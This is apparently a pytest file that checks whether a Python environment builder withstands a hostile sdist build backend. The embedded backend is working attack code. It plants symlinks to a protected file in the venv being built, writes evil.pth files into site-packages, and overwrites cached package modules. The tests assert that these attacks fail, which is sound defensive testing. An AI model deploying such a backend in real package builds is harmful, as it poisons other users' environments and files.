"""Hostile build backends against the environment builder (issue 24, rows 1 and 2).

A requirement's sdist runs its build backend as the build user: the job's own code. Here
the backend (`BACKEND`, a working in-tree PEP 517 backend) attacks while it builds:

* row 1: it finds the environment being built (from uv's command line, as a real one
  would) and plants symbolic links to a file outside at the names root writes there
  (the record's temp name, the constraints file, the record itself);
* row 2: it writes a ``.pth`` into every environment under the environment root and
  rewrites every cached copy of another package's module in the uv cache.

Then another owner's trial (`build_env`, then the environment's python importing a
module) must run clean code, the file outside must be byte-identical with the same owner
and mode, and an environment changed after publishing must be rebuilt, not reused.
The builds run as the build user only when the runner is root, so these tests need root.
"""

from __future__ import annotations

import io
import os
import subprocess
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from contract.wire import EnvResult, EnvSpec
from runners import envs, publish, users
from runners.envs import build_env, spec_hash
from service.example.fixture import pack_wheel
from service.example.index import serve_index

pytestmark = [
    pytest.mark.timeout(120),
    pytest.mark.skipif(os.geteuid() != 0, reason="builds run as the build user only under root"),
    pytest.mark.usefixtures("without_orphan_reaper"),  # _import_clean runs as the trial user
]

BACKEND = '''
import base64, hashlib, os, pathlib, zipfile

ENV_ROOT = {env_root!r}
CACHE_ROOT = {cache_root!r}
VICTIM = {victim!r}
TARGETS = {targets!r}
PLANT = {plant!r}
POISON = {poison!r}
NAME = "evilpkg"
PTH = "import sys; print('PWNED')\\n"


def _building():
    """The environments uv is installing into: `--python ENV/bin/python` of an ancestor."""
    found, pid = [], os.getppid()
    while pid > 1:
        try:
            args = pathlib.Path(f"/proc/{{pid}}/cmdline").read_bytes().split(b"\\0")
            stat = pathlib.Path(f"/proc/{{pid}}/stat").read_text()
        except OSError:
            break
        for flag, value in zip(args, args[1:]):
            if flag == b"--python" and value.endswith(b"/bin/python"):
                found.append(pathlib.Path(os.fsdecode(value)).parent.parent)
        pid = int(stat.rsplit(")", 1)[1].split()[1])
    return found


def _try(action):
    try:
        action()
    except OSError:
        pass


def _attack():
    for venv in _building():
        for name in PLANT:
            _try(lambda: (venv / name).symlink_to(VICTIM))
    if not POISON:
        return
    # Every directory it can list, and those it knows by name (the names are computable
    # hashes): the test writes them into TARGETS, as an attacker would guess them.
    known = [ENV_ROOT, CACHE_ROOT]
    _try(lambda: known.extend(pathlib.Path(TARGETS).read_text().split()))
    for start in known:
        for top, dirs, files in os.walk(start):
            if os.path.basename(top) == "site-packages":
                _try(lambda: pathlib.Path(top, "evil.pth").write_text(PTH))
            if top.endswith("/cleanpkg") and "__init__.py" in files:
                _try(lambda: pathlib.Path(top, "__init__.py").write_text("print('poisoned')\\n"))


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _attack()
    dist = f"{{NAME}}-1.0.dist-info"
    files = {{
        f"{{NAME}}/__init__.py": b"",
        f"{{dist}}/METADATA": f"Metadata-Version: 2.1\\nName: {{NAME}}\\nVersion: 1.0\\n".encode(),
        f"{{dist}}/WHEEL": b"Wheel-Version: 1.0\\nGenerator: evil\\nRoot-Is-Purelib: true\\n"
                          b"Tag: py3-none-any\\n",
    }}
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{{path}},sha256={{digest}},{{len(data)}}")
    record.append(f"{{dist}}/RECORD,,")
    files[f"{{dist}}/RECORD"] = ("\\n".join(record) + "\\n").encode()
    name = f"{{NAME}}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
        for path, data in files.items():
            whl.writestr(path, data)
    return name
'''

PYPROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "evilpkg"
version = "1.0"
"""

CLEAN = "print('clean')\n"


def _write_sdist(dest: Path, backend: str) -> None:
    files = {
        "evilpkg-1.0/pyproject.toml": PYPROJECT,
        "evilpkg-1.0/backend.py": backend,
        "evilpkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
    }
    with tarfile.open(dest / "evilpkg-1.0.tar.gz", "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


class Site:
    """An environment root, a cache root and an index with `cleanpkg` and the hostile sdist."""

    def __init__(self, top: Path, **attack: object) -> None:
        self.root, self.cache, self.victim = top / "envs", top / "uv-cache", top / "victim"
        self.victim.write_text("precious, root's own\n")
        self.victim.chmod(0o600)
        self.links = top / "links"
        self.links.mkdir(mode=0o755)
        self.links.chmod(0o755)
        pack_wheel(self.links / "cleanpkg-1.0-py3-none-any.whl", "cleanpkg", "1.0",
                   {"cleanpkg/__init__.py": CLEAN.encode()}, summary="clean")  # fmt: skip
        settings = {"plant": [], "poison": False, **attack}
        self.targets = top / "targets"
        _write_sdist(self.links, BACKEND.format(env_root=str(self.root),
                     cache_root=str(self.cache), victim=str(self.victim),
                     targets=str(self.targets), **settings))  # fmt: skip
        self.index = ""

    def spec(self, package: str = "cleanpkg", **kw: object) -> EnvSpec:
        return EnvSpec(package=package, version="1.0", index_url=self.index, **kw)

    def build(self, spec: EnvSpec, owner: str | None, log: list[str] | None = None) -> EnvResult:
        return build_env(spec, root=self.root, cache_dir=self.cache, owner=owner,
                         log=log.append if log is not None else None)  # fmt: skip

    def victim_state(self) -> tuple[bytes, int, int, int]:
        st = os.lstat(self.victim)
        return self.victim.read_bytes(), st.st_uid, st.st_mode, st.st_nlink


@pytest.fixture
def site(reachable_tmp: Path, request: pytest.FixtureRequest) -> Iterator[Site]:
    made = Site(reachable_tmp, **getattr(request, "param", {}))
    with serve_index(made.links) as url:
        made.index = url
        yield made


def _import_clean(env: EnvResult) -> str:
    """What the environment's python prints importing `cleanpkg`, run as a trial is: as
    the trial user (root would write bytecode into the published tree)."""
    assert env.ok and env.python_executable, env.error
    trial = users.identities().trial
    assert trial is not None
    out = subprocess.run([env.python_executable, "-c", "import cleanpkg"], capture_output=True,
                         text=True, check=True, cwd="/", env={"PATH": "/usr/bin:/bin"},
                         user=trial.uid, group=trial.gid, extra_groups=[])  # fmt: skip
    return out.stdout


# --------------------------------------------------------------------------- row 1


@pytest.mark.parametrize(
    "site", [{"plant": [".leakbisect-env.json.tmp"]}], indirect=True, ids=["record-temp"]
)
def test_link_at_the_record_temp_name_is_not_followed(site: Site) -> None:
    before = site.victim_state()
    result = site.build(site.spec("evilpkg"), "mallory")
    assert site.victim_state() == before
    assert result.ok, result.error
    st = os.lstat(Path(result.path) / envs.MARKER)
    assert st.st_uid == 0 and st.st_nlink == 1 and st.st_mode & 0o7777 == 0o444


@pytest.mark.parametrize(
    ("site", "planted"),
    [
        ({"plant": [".leakbisect-env.json.tmp", envs.CONSTRAINTS_FILE]}, envs.CONSTRAINTS_FILE),
        ({"plant": [".leakbisect-env.json.tmp", envs.MARKER]}, envs.MARKER),
    ],
    indirect=["site"],
    ids=["constraints", "record"],
)
def test_link_at_a_name_root_writes_fails_the_build(site: Site, planted: str) -> None:
    before = site.victim_state()
    spec = site.spec("evilpkg", requirements=["cleanpkg"], constraints=["cleanpkg==1.0"])
    result = site.build(spec, "mallory")
    assert site.victim_state() == before
    assert not result.ok
    assert result.error == (
        f"the build cannot be published: {planted} already exists (something was planted there)"
    )
    assert not (site.root / publish.owner_key("mallory") / spec_hash(spec)).exists()


# --------------------------------------------------------------------------- row 2


@pytest.mark.parametrize("site", [{"poison": True}], indirect=True)
def test_pth_and_cache_edits_reach_no_other_owner(site: Site) -> None:
    alice = site.build(site.spec(), "alice")
    assert _import_clean(alice) == "clean\n"
    published = publish.digest(Path(alice.path), skip=(envs.MARKER,))
    site_packages = next(Path(alice.path).glob("lib/python*/site-packages"))
    alices_cache = site.cache / publish.owner_key("alice") / "uv"
    site.targets.write_text(f"{site_packages}\n{alices_cache}\n")

    hostile = site.build(site.spec("evilpkg"), "mallory")
    assert hostile.ok, hostile.error

    # Another owner builds the same spec: from their own cache, clean.
    carol = site.build(site.spec(), "carol")
    assert _import_clean(carol) == "clean\n"
    assert not carol.reused and carol.path != alice.path
    # Alice's environment was not touched: reused, the same files, clean.
    again = site.build(site.spec(), "alice")
    assert again.reused and again.path == alice.path
    assert publish.digest(Path(alice.path), skip=(envs.MARKER,)) == published
    assert not list(Path(alice.path).glob("lib/python*/site-packages/evil.pth"))
    assert _import_clean(again) == "clean\n"
    # Alice's next environment comes from her warm cache, which the backend could not reach.
    warm = site.build(site.spec(pre=True), "alice")
    assert not warm.reused and _import_clean(warm) == "clean\n"


# --------------------------------------------------------------------------- reuse


def test_environment_changed_after_publishing_is_rebuilt(site: Site) -> None:
    first = site.build(site.spec(), "alice")
    module = next(Path(first.path).glob("lib/python*/site-packages/cleanpkg/__init__.py"))
    module.write_text("print('changed')\n")  # root can; nobody else can write it
    lines: list[str] = []
    again = site.build(site.spec(), "alice", lines)
    assert not again.reused and again.path == first.path
    changed = f"{spec_hash(site.spec())}: its files changed since it was published; rebuilding"
    assert changed in lines
    assert _import_clean(again) == "clean\n"
    assert site.build(site.spec(), "alice").reused
